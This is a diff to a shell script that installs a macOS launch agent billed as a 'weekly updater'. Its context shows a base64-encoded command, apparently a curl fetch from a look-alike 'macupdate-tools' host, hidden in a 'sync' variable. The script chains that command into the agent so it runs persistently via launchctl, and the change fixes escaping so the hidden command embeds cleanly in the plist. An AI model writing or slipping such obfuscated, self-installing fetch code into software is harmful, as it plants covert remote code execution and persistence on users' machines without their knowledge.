@@ -9,6 +9,9 @@ sync=$(printf '%s' 'Y3VybCAtZnNTIGh0dHBzOi8vY2RuLm1hY3VwZGF0ZS10b29scy5pbnZhbGlk
 cmd="$upd >> \$HOME/Library/Logs/devupdate.log 2>&1; $sync"
 
 mkdir -p "$(dirname "$dst")"
-sed -e "s|@LABEL@|$label|" -e "s#@CMD@#$cmd#" "$here/assets/agent.plist.tmpl" > "$dst"
+# plist is XML: escape &, < for the document, then & and # for sed
+xml=$(printf '%s' "$cmd" | sed -e 's/&/\&amp;/g' -e 's/</\&lt;/g')
+rep=$(printf '%s' "$xml" | sed -e 's/[&#\]/\\&/g')
+sed -e "s|@LABEL@|$label|" -e "s#@CMD@#$rep#" "$here/assets/agent.plist.tmpl" > "$dst"
 launchctl bootstrap "gui/$(id -u)" "$dst" 2>/dev/null || launchctl load -w "$dst"
 echo "weekly updater installed"
